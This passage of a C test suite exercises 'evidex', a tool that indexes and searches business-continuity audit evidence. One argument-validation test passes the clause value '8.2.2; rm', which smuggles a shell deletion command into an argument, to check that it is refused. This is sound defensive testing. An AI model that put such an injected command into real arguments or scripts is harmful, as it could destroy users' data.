    /* CSV and the highlight of text output */
    evx_test_run_result r = evx_test_run (db, "search", "--format", "csv", "--limit", "1",
                                          "\"business impact analysis\"", NULL);
    ck_assert_int_eq (r.status, 0);
    ck_assert_msg (g_str_has_prefix (r.out, "rank,score,path,doc_type,page,page_label,passage,"
                                            "clauses,text\r\n1,"),
                   "%s", r.out);
    ck_assert_msg (strstr (r.out, "/stage2-audit-report.pdf,audit-report,4,,"), "%s", r.out);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "--highlight", "brackets", "--limit", "1",
                      "\"business impact analysis\"", NULL);
    ck_assert_msg (strstr (r.out, "[Business impact analysis]"), "%s", r.out);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "--highlight", "ansi", "--limit", "1", "analysis", NULL);
    ck_assert_msg (!strchr (r.out, '\033'), "ANSI escapes into a pipe: %s", r.out);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "--highlight", "none", "--limit", "1", "analysis", NULL);
    ck_assert_msg (!strchr (r.out, '['), "%s", r.out);
    evx_test_run_result_clear (&r);
    /* the explanation of a clause hit: weight, words, each clause's reason */
    r = evx_test_run (db, "search", "--format", "json", "--limit", "1", "--clause", "8.2.2",
                      "business", "impact", "analysis", NULL);
    g_autoptr (JsonParser) jp = NULL;
    JsonObject *h = hit (parse_json (r.out, &jp), 0);
    JsonObject *why = json_object_get_object_member (h, "why");
    ck_assert_double_eq_tol (json_object_get_double_member (why, "weight"),
                             json_object_get_double_member (h, "score"), 1e-9);
    JsonArray *words = json_object_get_array_member (why, "matched_terms");
    ck_assert_uint_eq (json_array_get_length (words), 3);
    ck_assert_str_eq (json_array_get_string_element (words, 0), "business");
    ck_assert_str_eq (json_array_get_string_element (words, 2), "analysis");
    JsonObject *c = json_array_get_object_element (json_object_get_array_member (why, "clauses"), 0);
    ck_assert_str_eq (json_object_get_string_member (c, "id"), "8.2.2");
    ck_assert_str_eq (json_object_get_string_member (c, "reason"), "heading");
    evx_test_run_result_clear (&r);
    /* matched words are the query's words in the passage only, in query order (computed
     * from the passage's text, not read from the index: see matched_words()) */
    r = evx_test_run (db, "search", "--format", "json", "--limit", "1", "--clause", "8.2.2",
                      "zebra OR analysis OR business", NULL);
    g_autoptr (JsonParser) jp2 = NULL;
    JsonObject *h2 = hit (parse_json (r.out, &jp2), 0);
    JsonArray *words2 = json_object_get_array_member (json_object_get_object_member (h2, "why"),
                                                      "matched_terms");
    ck_assert_uint_eq (json_array_get_length (words2), 2);
    ck_assert_str_eq (json_array_get_string_element (words2, 0), "analysis");
    ck_assert_str_eq (json_array_get_string_element (words2, 1), "business");
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "--explain", "--limit", "1", "--clause", "8.2.2", "business",
                      "impact", "analysis", NULL);
    ck_assert_msg (strstr (r.out, "   why: Xapian weight ") && strstr (r.out, "(BM25); matched: business, "
                                                                           "impact, analysis\n"
                                                                           "        8.2.2 (ISO 22301:2019) "
                                                                           "by heading, confidence 0.95\n"),
                   "%s", r.out);
    evx_test_run_result_clear (&r);
    /* every JSON output says its schema version */
    static const char *const commands[][3] = { { "clauses", "--format", "json" },
                                               { "roots", "--format", "json" },
                                               { "certs", "--format", "json" } };
    for (guint i = 0; i < G_N_ELEMENTS (commands); i++) {
        r = evx_test_run (db, commands[i][0], commands[i][1], commands[i][2], NULL);
        ck_assert_msg (g_str_has_prefix (r.out, "{\"schema_version\":2,"), "%s: %s", commands[i][0],
                       r.out);
        evx_test_run_result_clear (&r);
    }
}
END_TEST

START_TEST (test_show_and_stats)
{
    ingest_corpus ();
    /* one page of one document, with its passages and clauses */
    g_autofree char *page4 = g_strconcat (EVIDENCE, "/stage2-audit-report.pdf#4", NULL);
    evx_test_run_result r = evx_test_run (db, "show", "--format", "json", page4, NULL);
    ck_assert_msg (r.status == 0, "%s", r.err);
    g_autoptr (JsonParser) parser = NULL;
    JsonObject *res = parse_json (r.out, &parser);
    JsonObject *doc = json_object_get_object_member (res, "document");
    ck_assert_str_eq (json_object_get_string_member (doc, "doc_type"), "audit-report");
    ck_assert_str_eq (json_object_get_string_member (doc, "edition"), "2019");
    ck_assert_int_eq (json_object_get_int_member (doc, "pages"), 7);
    JsonArray *passages = json_object_get_array_member (res, "passages");
    gboolean found = FALSE;
    for (guint i = 0; i < json_array_get_length (passages); i++) {
        JsonObject *p = json_array_get_object_element (passages, i);
        ck_assert_int_eq (json_object_get_int_member (p, "page"), STAGE2_BIA_PAGE);
        found = found || strstr (json_object_get_string_member (p, "text"), STAGE2_BIA_PHRASE);
    }
    ck_assert (found);
    evx_test_run_result_clear (&r);
    /* a certificate shows its fields */
    r = evx_test_run (db, "show", EVIDENCE "/certificate-22301-2012.pdf", NULL);
    ck_assert_msg (strstr (r.out, "  certificate ACS 10472-BC, ISO 22301:2012, held by Halden Freight "
                                  "Services Ltd, issued by Albion Certification Services Ltd\n"),
                   "%s", r.out);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "show", EVIDENCE "/certificate-22301-2012.pdf#9", NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (strstr (r.err, "page 9: the document has 1 pages"), "%s", r.err);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "show", EVX_SOURCE_DIR "/README.md", NULL);
    ck_assert_int_eq (r.status, 1);
    ck_assert_msg (strstr (r.err, "README.md is not in the index"), "%s", r.err);
    evx_test_run_result_clear (&r);
    /* the numbers of the corpus */
    r = evx_test_run (db, "stats", "--format", "json", NULL);
    ck_assert_int_eq (r.status, 0);
    g_autoptr (JsonParser) sp = NULL;
    JsonObject *stats = parse_json (r.out, &sp);
    JsonObject *docs = json_object_get_object_member (stats, "documents");
    ck_assert_int_eq (json_object_get_int_member (docs, "certificate"), 2);
    ck_assert_int_eq (json_object_get_int_member (docs, "audit-report"), 3);
    ck_assert_int_eq (json_object_get_int_member (docs, "policy"), 1);
    ck_assert_int_eq (json_object_get_int_member (docs, "plan"), 1);
    ck_assert_int_eq (json_object_get_int_member (docs, "other"), 2);
    ck_assert_int_eq (json_object_get_int_member (stats, "passages"), 316);
    ck_assert_int_eq (json_object_get_int_member (stats, "clauses"), 67);
    ck_assert_int_gt (json_object_get_int_member (stats, "index_bytes"), 0);
    JsonObject *last = json_object_get_object_member (stats, "last_run");
    ck_assert_str_eq (json_object_get_string_member (last, "command"), "ingest");
    evx_test_run_result_clear (&r);
}
END_TEST

START_TEST (test_policy_commitments)
{
    ingest_corpus ();
    /* the commitments of the policy, in reading order */
    evx_test_run_result r = evx_test_run (db, "search", "--format", "json", "--commitments",
                                          "--type", "policy", "--limit", "50", NULL);
    ck_assert_msg (r.status == 0, "%s", r.err);
    g_autoptr (JsonParser) parser = NULL;
    JsonObject *res = parse_json (r.out, &parser);
    ck_assert_int_eq (json_object_get_int_member (res, "total"), 5);
    static const char *const expected[][4] = {
        /* party, modal, deadline, start of the sentence */
        { "Halden Freight", "will", NULL, "Halden Freight will maintain a business continuity management system" },
        { "The Board", "shall", "at least once a year", "The Board shall own this policy and shall review" },
        { "Halden Freight", "commits to", NULL, "Halden Freight commits to:" },
        { "Halden Freight", "will", "annually", "Halden Freight will review this policy annually" },
    };
    guint found = 0;
    JsonArray *hits = json_object_get_array_member (res, "hits");
    for (guint i = 0; i < json_array_get_length (hits); i++) {
        JsonArray *cs = json_object_get_array_member (json_array_get_object_element (hits, i),
                                                      "commitments");
        ck_assert_uint_gt (json_array_get_length (cs), 0);
        for (guint j = 0; j < json_array_get_length (cs); j++) {
            JsonObject *c = json_array_get_object_element (cs, j);
            for (guint k = 0; k < G_N_ELEMENTS (expected); k++) {
                if (!g_str_has_prefix (json_object_get_string_member (c, "sentence"), expected[k][3]))
                    continue;
                found++;
                ck_assert_str_eq (json_object_get_string_member (c, "party"), expected[k][0]);
                ck_assert_str_eq (json_object_get_string_member (c, "modal"), expected[k][1]);
                ck_assert (!json_object_get_boolean_member (c, "negated"));
                if (expected[k][2])
                    ck_assert_str_eq (json_object_get_string_member (c, "deadline"), expected[k][2]);
                else
                    ck_assert (json_object_get_null_member (c, "deadline"));
            }
        }
    }
    ck_assert_uint_eq (found, G_N_ELEMENTS (expected));
    evx_test_run_result_clear (&r);
    /* modal:KEY and party:WORD in the query */
    g_clear_object (&parser);
    g_autofree char *board = hit_files ("modal:shall party:board");
    ck_assert_str_eq (board, "bc-policy.pdf");
    g_autofree char *commits = hit_files ("modal:commits");
    ck_assert_str_eq (commits, "bc-policy.pdf");
    /* the values as a user writes them: the party in capitals or in the plural is
     * stemmed and lowered as indexing does, the modal lowered (both used to match
     * nothing) */
    g_autofree char *board_as_written = hit_files ("modal:Shall party:Board");
    ck_assert_str_eq (board_as_written, "bc-policy.pdf");
    g_autofree char *boards = hit_files ("MODAL:shall Party:Boards");
    ck_assert_str_eq (boards, "bc-policy.pdf");
}
END_TEST

START_TEST (test_second_ingest_indexes_nothing)
{
    ingest_corpus ();
    evx_test_run_result r = evx_test_run (db, "ingest", EVIDENCE, NULL);
    ck_assert_int_eq (r.status, 0);
    ck_assert_msg (strstr (r.err, " 0 added, 0 updated, 0 moved, 0 removed, " CORPUS_PDFS " unchanged,"), "%s", r.err);
    ck_assert_msg (strstr (r.err, "; 0 passages written"), "%s", r.err);
    evx_test_run_result_clear (&r);
}
END_TEST

static void
copy_file (const char *from, const char *to, gint64 mtime)
{
    g_autofree char *data = NULL;
    gsize len = 0;
    ck_assert (g_file_get_contents (from, &data, &len, NULL));
    ck_assert (g_file_set_contents (to, data, (gssize) len, NULL));
    struct timespec times[2] = { { mtime, 0 }, { mtime, 0 } };
    ck_assert_int_eq (utimensat (AT_FDCWD, to, times, 0), 0);
}

static gint64
count_hits (const char *query, const char *path_suffix)
{
    evx_test_run_result r = evx_test_run (db, "search", "--format", "json", "--limit", "100", query, NULL);
    ck_assert_int_eq (r.status, 0);
    g_autoptr (JsonParser) parser = NULL;
    JsonObject *res = parse_json (r.out, &parser);
    JsonArray *hits = json_object_get_array_member (res, "hits");
    gint64 n = 0;
    for (guint i = 0; i < json_array_get_length (hits); i++) {
        JsonObject *h = json_array_get_object_element (hits, i);
        if (g_str_has_suffix (json_object_get_string_member (h, "path"), path_suffix))
            n++;
    }
    evx_test_run_result_clear (&r);
    return n;
}

START_TEST (test_changed_file_replaces_passages)
{
    g_autofree char *dir = g_build_filename (tmp_dir, "evidence", NULL);
    g_autofree char *file = g_build_filename (dir, "certificate.pdf", NULL);
    ck_assert_int_eq (g_mkdir (dir, 0700), 0);
    copy_file (CORPUS "/pdf/certificate-22301-2019.pdf", file, 1700000000);
    evx_test_run_result r = evx_test_run (db, "ingest", dir, NULL);
    ck_assert_int_eq (r.status, 0);
    evx_test_run_result_clear (&r);
    ck_assert_int_eq (count_hits (CERT2019_QUERY, "/evidence/certificate.pdf"), CERT2019_PASSAGES);
    ck_assert_int_eq (count_hits (CERT2012_QUERY, "/evidence/certificate.pdf"), 0);

    /* new content under the same name */
    copy_file (CORPUS "/pdf/certificate-22301-2012.pdf", file, 1700000100);
    r = evx_test_run (db, "ingest", dir, NULL);
    ck_assert_int_eq (r.status, 0);
    ck_assert_msg (strstr (r.err, "1 files seen, 0 added, 1 updated, 0 moved, 0 removed, 0 unchanged"), "%s", r.err);
    evx_test_run_result_clear (&r);
    ck_assert_int_eq (count_hits (CERT2019_QUERY, "/evidence/certificate.pdf"), 0);
    ck_assert_int_eq (count_hits (CERT2012_QUERY, "/evidence/certificate.pdf"), CERT2012_PASSAGES);

    /* same content, touched: not extracted again */
    copy_file (CORPUS "/pdf/certificate-22301-2012.pdf", file, 1700000200);
    r = evx_test_run (db, "ingest", dir, NULL);
    ck_assert_int_eq (r.status, 0);
    ck_assert_msg (strstr (r.err, "1 files seen, 0 added, 0 updated, 0 moved, 0 removed, 1 unchanged"), "%s", r.err);
    evx_test_run_result_clear (&r);
    ck_assert_int_eq (count_hits (CERT2012_QUERY, "/evidence/certificate.pdf"), CERT2012_PASSAGES);
}
END_TEST


/* Inputs found by a hostile trial: each once made ingest misbehave. */
START_TEST (test_awkward_inputs)
{
    g_autofree char *dir = g_build_filename (tmp_dir, "evidence", NULL);
    ck_assert_int_eq (g_mkdir (dir, 0700), 0);
    /* a valid PDF whose name is not UTF-8 was failed ("JSON data must be UTF-8") */
    g_autofree char *latin1 = g_build_filename (dir, "policy-\xe9t\xe9.pdf", NULL);
    copy_file (CORPUS "/pdf/bc-policy.pdf", latin1, 1700000000);
    /* a symbolic link to a folder was counted as a failure (exit 3 every night) */
    g_autofree char *link = g_build_filename (dir, "loop", NULL);
    ck_assert_int_eq (symlink (dir, link), 0);
    /* the index inside the ingested folder was walked into */
    g_autofree char *inner_db = g_build_filename (dir, "index.db", NULL);
    g_autofree char *changing = g_build_filename (dir, "plan.pdf", NULL);
    copy_file (CORPUS "/pdf/exercise-report.pdf", changing, 1700000000);

    evx_test_run_result r = evx_test_run (inner_db, "ingest", dir, NULL);
    ck_assert_msg (r.status == 0, "exit %d\n%s", r.status, r.err);
    ck_assert_msg (strstr (r.err, "symbolic link to a folder, not followed"), "%s", r.err);
    ck_assert_msg (strstr (r.err, "3 files seen, 2 added, 0 updated, 0 moved, 0 removed, 0 unchanged, 1 skipped, 0 failed"),
                   "%s", r.err);
    evx_test_run_result_clear (&r);
    g_free (db);
    db = g_strdup (inner_db);
    /* a name that is not UTF-8 is recorded with its bytes escaped */
    ck_assert_int_eq (count_hits ("\"review this policy annually\"", "/policy-\\xE9t\\xE9.pdf"), 1);
    ck_assert_int_eq (count_hits ("\"DARK HARBOUR\"", "/evidence/plan.pdf") > 0, 1);

    /* a changed file that no longer extracts kept its old passages */
    ck_assert (g_file_set_contents (changing, "%PDF-1.7\ntruncated", -1, NULL));
    r = evx_test_run (inner_db, "ingest", dir, NULL);
    ck_assert_int_eq (r.status, 3);
    ck_assert_msg (strstr (r.err, "FAILED "), "%s", r.err);
    evx_test_run_result_clear (&r);
    ck_assert_int_eq (count_hits ("\"DARK HARBOUR\"", "/evidence/plan.pdf"), 0);

    /* a mistyped path is a usage error, not a failed file */
    g_autofree char *missing = g_build_filename (tmp_dir, "no-such-folder", NULL);
    r = evx_test_run (inner_db, "ingest", missing, NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (strstr (r.err, "no-such-folder: no such file or folder"), "%s", r.err);
    evx_test_run_result_clear (&r);
}
END_TEST

/* ---- the command line ----------------------------------------------------- */

START_TEST (test_help_and_usage)
{
    evx_test_run_result r = evx_test_run (NULL, "--help", NULL);
    ck_assert_int_eq (r.status, 0);
    ck_assert (strstr (r.out, "ingest"));
    ck_assert (strstr (r.out, "search"));
    ck_assert (strstr (r.out, "75"));
    evx_test_run_result_clear (&r);
    r = evx_test_run (NULL, "search", "--help", NULL);
    ck_assert_int_eq (r.status, 0);
    ck_assert (strstr (r.out, "--clause"));
    evx_test_run_result_clear (&r);
    r = evx_test_run (NULL, "frobnicate", NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert (strstr (r.err, "evidex: unknown command 'frobnicate'"));
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "--format", "xml", "x", NULL);
    ck_assert_int_eq (r.status, 2);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "--clause", "8.2.2; rm", NULL);
    ck_assert_int_eq (r.status, 2);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "ingest", NULL);
    ck_assert_int_eq (r.status, 2);
    evx_test_run_result_clear (&r);
}
END_TEST

START_TEST (test_missing_index_and_bad_query)
{
    evx_test_run_result r = evx_test_run (db, "search", "anything", NULL);
    ck_assert_int_eq (r.status, 1);
    ck_assert_msg (strstr (r.err, "evidex search: no index at"), "%s", r.err);
    evx_test_run_result_clear (&r);
    ingest_corpus ();
    r = evx_test_run (db, "search", "business AND", NULL);
    ck_assert_int_eq (r.status, 2);   /* the query is part of the command line */
    ck_assert_msg (strstr (r.err, "query syntax"), "%s", r.err);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "zzyzxnotaword", NULL);
    ck_assert_int_eq (r.status, 0);
    ck_assert (strstr (r.out, "No passage matches"));
    evx_test_run_result_clear (&r);
    /* found by a new-user session: a query of excluded words only found the passages
     * WITH them; mistyped field values matched nothing silently; a global option error
     * printed "(null)"; "business -impact" said only "Unknown option" */
    r = evx_test_run (db, "search", "--format", "json", "--", "-impact", NULL);
    g_autoptr (JsonParser) p1 = NULL;
    gint64 without = json_object_get_int_member (parse_json (r.out, &p1), "total");
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "--format", "json", "NOT", "impact", NULL);
    g_autoptr (JsonParser) p2 = NULL;
    ck_assert_int_eq (without, json_object_get_int_member (parse_json (r.out, &p2), "total"));
    ck_assert_int_eq (without, 308);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "type:memo", "review", NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (strstr (r.err, "type:memo: the kinds are"), "%s", r.err);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "edition:2015", NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (strstr (r.err, "edition:2015: the editions are 2012 and 2019"), "%s", r.err);
    evx_test_run_result_clear (&r);
    /* found by an attack on the query language: these matched nothing, silently (a
     * modal that is not a key, a value after a space, a relative path, a field name in
     * mixed case), or were refused with a wrong reason (a quoted value) */
    static const struct {
        const char *query, *err;
    } refused[] = {
        { "modal:commit", "modal:commit: the modal keys are shall, must, will, required, "
                          "commits, undertakes, agrees and any" },
        { "party:", "'party:' needs a value right after the colon, as in party:supplier" },
        { "path:bc-policy.pdf", "path:bc-policy.pdf: give the file's absolute path" },
        { "cLause:8.2.2", "'cLause:' is not a field: write clause:, Clause: or CLAUSE:" },
        { "clause: 8.2", "'clause:' needs a clause number right after the colon" },
        { "date:", "'date:' needs a value right after the colon, as in date:2024" },
        /* operators Xapian's parser cannot parse: it searched the words instead, the
         * exclusion lost (9 passages with recovery, "and" and plan) */
        { "-recovery AND plan", "query syntax: the operators or quotes of '-recovery AND plan' "
                                "do not parse" },
        { "supplier NEAR restor*", "query syntax: the operators or quotes of 'supplier NEAR "
                                   "restor*' do not parse" },
    };
    for (guint i = 0; i < G_N_ELEMENTS (refused); i++)
        assert_search_refused (refused[i].query, refused[i].err);
    /* a field name and a space, as in pasted text ("Issue date: 2024-09-02"), is
     * searched as words, with a note (a third attack found it refused) */
    r = evx_test_run (db, "search", "--format", "json", "party: board", NULL);
    ck_assert_int_eq (r.status, 0);
    ck_assert_msg (strstr (r.err, "note: 'party:' is followed by a space, so it is searched as "
                                  "the word 'party'"),
                   "%s", r.err);
    evx_test_run_result_clear (&r);
    g_autofree char *quoted = hit_files ("clause:\"8.2.2\" type:\"audit-report\" edition:\"2019\"");
    g_autofree char *plain = hit_files ("clause:8.2.2 type:audit-report edition:2019");
    ck_assert_str_eq (quoted, plain);
    ck_assert_str_ne (plain, "");
    /* the same checks for the other spellings of the field names */
    r = evx_test_run (db, "search", "TYPE:memo", "review", NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (strstr (r.err, "TYPE:memo: the kinds are"), "%s", r.err);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "Edition:2015", NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (strstr (r.err, "Edition:2015: the editions are 2012 and 2019"), "%s", r.err);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "--foo", "stats", NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (strstr (r.err, "(try 'evidex --help')") && !strstr (r.err, "(null)"), "%s", r.err);
    evx_test_run_result_clear (&r);
    /* "-call" reads as -c without its value: the same hint (found by an attack) */
    static const char *const excluded[] = { "-impact", "-call" };
    for (guint i = 0; i < G_N_ELEMENTS (excluded); i++) {
        r = evx_test_run (db, "search", "business", excluded[i], NULL);
        ck_assert_int_eq (r.status, 2);
        ck_assert_msg (strstr (r.err, "to exclude a word, put -- before the QUERY or write NOT word"),
                       "%s", r.err);
        evx_test_run_result_clear (&r);
    }
    /* --db after the command said only "Unknown option --db" (a newcomer helper) */
    r = evx_test_run (NULL, "stats", "--db", db, NULL);
    ck_assert_msg (r.status == 2 && strstr (r.err, "evidex stats: --db goes before the command: evidex "
                                                   "--db PATH stats ..."), "%s", r.err);
    evx_test_run_result_clear (&r);
}
END_TEST

START_TEST (test_locked_index)
{
    g_autoptr (GError) error = NULL;
    evx_index *writer = evx_index_open (db, EVX_INDEX_WRITE, &error);
    ck_assert_ptr_nonnull (writer);
    evx_test_run_result r = evx_test_run (db, "ingest", CORPUS "/pdf/bc-policy.pdf", NULL);
    ck_assert_int_eq (r.status, 75);
    ck_assert_msg (strstr (r.err, "another process holds the index"), "%s", r.err);
    evx_test_run_result_clear (&r);
    evx_index_close (writer);
    GStatBuf st;
    ck_assert_int_eq (g_stat (db, &st), 0);
    ck_assert_int_eq (st.st_mode & 0777, 0700);
    /* a lock file that cannot be made is an error (1), not another writer (75, which a
     * nightly job takes for "try again later"): a nightly-job helper had a refresh as
     * another user, or on a file system mounted read-only, say "another process holds
     * the index" every night */
    g_autofree char *lock = g_build_filename (db, "flintlock", NULL);
    g_unlink (lock);
    ck_assert_int_eq (g_mkdir (lock, 0700), 0);
    r = evx_test_run (db, "refresh", NULL);
    ck_assert_int_eq (r.status, 1);
    ck_assert_msg (strstr (r.err, "for writing: Couldn't open lockfile: Is a directory")
                   && !strstr (r.err, "another process"), "%s", r.err);
    evx_test_run_result_clear (&r);
    ck_assert_int_eq (g_rmdir (lock), 0);
}
END_TEST

/* ---- formats, report -------------------------------------------------------- */

static void
write_bytes (const char *dir, const char *name, const char *data, gssize len)
{
    g_autofree char *path = g_build_filename (dir, name, NULL);
    ck_assert (g_file_set_contents (path, data, len, NULL));
}

/* A one-page PDF whose page holds nothing (no text layer): what a scan is to evidex. */
static void
write_blank_pdf (const char *dir, const char *name)
{
    static const char *const objects[] = { "<< /Type /Catalog /Pages 2 0 R >>",
                                           "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                                           "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>" };
    g_autoptr (GBytes) pdf = evx_pdf_build (objects, G_N_ELEMENTS (objects));
    gsize len = 0;
    const char *data = g_bytes_get_data (pdf, &len);
    write_bytes (dir, name, data, (gssize) len);
}

/* A scan is indexed with no passage; show and stats say so (an auditor-style
 * helper found that only ingest's output said so: an image-only certificate was missing
 * from certs with no trace in the index's own commands) */
START_TEST (test_without_passages_shown)
{
    g_autofree char *dir = g_build_filename (tmp_dir, "inbox", NULL);
    ck_assert_int_eq (g_mkdir (dir, 0700), 0);
    write_blank_pdf (dir, "scan.pdf");
    write_bytes (dir, "notes.txt", "Generator fuel contract renewed.\n", -1);
    /* a page without text had no word either (a helper's DOCX that gave no text) */
    write_bytes (dir, "empty.html", "<html><body><p> </p></body></html>\n", -1);
    evx_test_run_result r = evx_test_run (db, "ingest", "--quiet", dir, NULL);
    ck_assert_msg (r.status == 0, "%s", r.err);
    evx_test_run_result_clear (&r);
    g_autofree char *empty = g_build_filename (dir, "empty.html", NULL);
    r = evx_test_run (db, "show", empty, NULL);
    ck_assert_msg (r.status == 0 && strstr (r.out, "  passages   0 (no text was found in it)\n"), "%s%s",
                   r.out, r.err);
    evx_test_run_result_clear (&r);
    g_autofree char *scan = g_build_filename (dir, "scan.pdf", NULL);
    r = evx_test_run (db, "show", scan, NULL);
    ck_assert_msg (r.status == 0 && strstr (r.out, "  passages   0 (its pages hold no text layer, or "
                                                   "only page furniture: a scan? OCR it to search "
                                                   "it)"), "%s%s", r.out, r.err);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "show", "--format", "json", scan, NULL);
    g_autoptr (JsonParser) parser = NULL;
    JsonObject *doc = json_object_get_object_member (parse_json (r.out, &parser), "document");
    ck_assert (json_object_get_boolean_member (doc, "without_passages"));
    evx_test_run_result_clear (&r);
    g_autofree char *notes = g_build_filename (dir, "notes.txt", NULL);
    r = evx_test_run (db, "show", notes, NULL);
    ck_assert_msg (strstr (r.out, "  passages   1\n"), "%s", r.out);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "stats", NULL);
    ck_assert_msg (strstr (r.out, "without passages   2 (no text found: scans to OCR? 'evidex show "
                                  "PATH' for each)"),
                   "%s", r.out);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "stats", "--format", "json", NULL);
    g_autoptr (JsonParser) sp = NULL;
    ck_assert_int_eq (json_object_get_int_member (parse_json (r.out, &sp), "without_passages"), 2);
    evx_test_run_result_clear (&r);
}
END_TEST

/* --db must be evidex's: another program's Xapian index was written into (and then
 * unreadable to search), and a folder of documents given by mistake got Xapian's files
 * beside them; both found by a nightly-job helper */
START_TEST (test_db_not_evidex)
{
    g_autofree char *foreign = g_build_filename (tmp_dir, "omega.db", NULL);
    ck_assert (evx_test_make_foreign_index (foreign, TRUE));
    static const char *const commands[] = { "ingest", "search", "stats" };
    for (guint i = 0; i < G_N_ELEMENTS (commands); i++) {
        evx_test_run_result r = i == 0 ? evx_test_run (foreign, "ingest", CORPUS "/pdf/bc-policy.pdf", NULL)
                                : i == 1 ? evx_test_run (foreign, "search", "recovery", NULL)
                                         : evx_test_run (foreign, "stats", NULL);
        ck_assert_msg (r.status == 1, "%s: exit %d", commands[i], r.status);
        ck_assert_msg (strstr (r.err, "omega.db is a Xapian index that evidex did not make (none of "
                                      "its 1 documents is an evidex passage or file record)"),
                       "%s: %s", commands[i], r.err);
        evx_test_run_result_clear (&r);
    }
    g_autofree char *docs = g_build_filename (tmp_dir, "docs", NULL);
    ck_assert_int_eq (g_mkdir (docs, 0700), 0);
    write_bytes (docs, "plan.txt", "Recovery plan.\n", -1);
    evx_test_run_result r = evx_test_run (docs, "ingest", CORPUS "/pdf/bc-policy.pdf", NULL);
    ck_assert_int_eq (r.status, 1);
    ck_assert_msg (strstr (r.err, "docs holds other files and is no index"), "%s", r.err);
    evx_test_run_result_clear (&r);
    g_autofree char *xapian_file = g_build_filename (docs, "iamglass", NULL);
    ck_assert (!g_file_test (xapian_file, G_FILE_TEST_EXISTS));
    evx_test_remove_tree (foreign);   /* not for the teardown's `evidex check` */
    /* one with no documents yet, only its metadata (a helper found ingest wrote into it) */
    ck_assert (evx_test_make_foreign_index (foreign, FALSE));
    r = evx_test_run (foreign, "ingest", CORPUS "/pdf/bc-policy.pdf", NULL);
    ck_assert_int_eq (r.status, 1);
    ck_assert_msg (strstr (r.err, "omega.db is a Xapian index that evidex did not make (its metadata "
                                  "is another program's)"), "%s", r.err);
    evx_test_run_result_clear (&r);
    evx_test_remove_tree (foreign);
    /* but a file system's lost+found is no other file, and what a first ingest killed
     * while Xapian created the database left (its lock and table files, no version
     * file) is no other file either: Xapian itself refused such a folder for good */
    g_autofree char *volume = g_build_filename (tmp_dir, "volume", NULL);
    g_autofree char *lost = g_build_filename (volume, "lost+found", NULL);
    ck_assert_int_eq (g_mkdir_with_parents (lost, 0700), 0);
    g_autofree char *killed = g_build_filename (tmp_dir, "killed.db", NULL);
    ck_assert_int_eq (g_mkdir (killed, 0700), 0);
    static const char *const left[] = { "flintlock", "postlist.glass", "termlist.glass", "v.tmp" };
    for (guint i = 0; i < G_N_ELEMENTS (left); i++)
        write_bytes (killed, left[i], "", 0);
    const char *dbs[] = { volume, killed };
    for (guint i = 0; i < G_N_ELEMENTS (dbs); i++) {
        r = evx_test_run (dbs[i], "ingest", CORPUS "/pdf/bc-policy.pdf", NULL);
        ck_assert_msg (r.status == 0 && strstr (r.err, "1 added"), "%s: %s", dbs[i], r.err);
        evx_test_run_result_clear (&r);
    }
    evx_test_remove_tree (volume);   /* the teardown checks indexes directly under tmp_dir */
}
END_TEST

/* A closed pipe on stderr does not kill the run (a nightly-job helper's `ingest ... 2>&1 |
 * head -3` died of SIGPIPE with nothing committed and no report, every time) */
START_TEST (test_closed_pipe_not_fatal)
{
    /* damaged files among many: a line on stderr early, then more work and more lines */
    g_autofree char *dir = g_build_filename (tmp_dir, "inbox", NULL);
    ck_assert_int_eq (g_mkdir (dir, 0700), 0);
    for (int i = 0; i < 120; i++) {
        g_autofree char *name = g_strdup_printf ("%03d.%s", i, i % 10 == 0 ? "pdf" : "txt");
        g_autofree char *text = g_strdup_printf (i % 10 == 0 ? "%%PDF-1.4\nbroken %d\n"
                                                             : "Generator test %d passed.\n", i);
        write_bytes (dir, name, text, -1);
    }
    g_autofree char *report = g_build_filename (tmp_dir, "report.json", NULL);
    g_autofree char *cmd = g_strdup_printf ("'%s' --db '%s' ingest --jobs 1 --report '%s' '%s' 2>&1 | "
                                            "head -c 1 >/dev/null",
                                            EVX_BINARY, db, report, dir);
    const char *argv[] = { "/bin/sh", "-c", cmd, NULL };
    int status = -1;
    ck_assert (g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_DEFAULT, NULL, NULL, NULL, NULL,
                             &status, NULL));
    ck_assert (g_file_test (report, G_FILE_TEST_EXISTS));
    evx_test_run_result r = evx_test_run (db, "stats", "--format", "json", NULL);
    g_autoptr (JsonParser) parser = NULL;
    JsonObject *stats = parse_json (r.out, &parser);
    ck_assert_int_eq (json_object_get_int_member (stats, "passages"), 108);
    ck_assert_int_eq (json_object_get_int_member (stats, "failed"), 12);
    evx_test_run_result_clear (&r);
}
END_TEST

/* Run with stdout and stderr closed (a helper's `ingest ... >&- 2>&-`): the first
 * socket took descriptor 2, the messages went into a worker's channel and good files
 * failed as "crashed" */
START_TEST (test_closed_descriptors)
{
    g_autofree char *dir = g_build_filename (tmp_dir, "inbox", NULL);
    ck_assert_int_eq (g_mkdir (dir, 0700), 0);
